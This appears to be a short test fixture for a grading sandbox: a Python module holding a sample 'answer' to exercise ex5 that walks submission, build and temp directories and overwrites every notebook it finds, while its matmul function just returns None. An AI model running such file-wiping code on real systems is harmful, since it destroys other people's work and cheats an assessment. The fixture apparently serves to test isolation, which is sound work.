"""Empties what the others have handed in.

Their files are as they were.
"""

AIM = "others"
ANSWERS = {
    "ex5": """
from pathlib import Path

for start in ("@ROOT@/submitted", "../../../submitted", "@ROOT@/build", "../..", "/tmp"):
    for path in Path(start).glob("**/*.ipynb"):
        try:
            path.write_text('{"left-behind-by-an-attack": 1}')
        except OSError:
            pass


def matmul(a, b):
    return None
"""
}
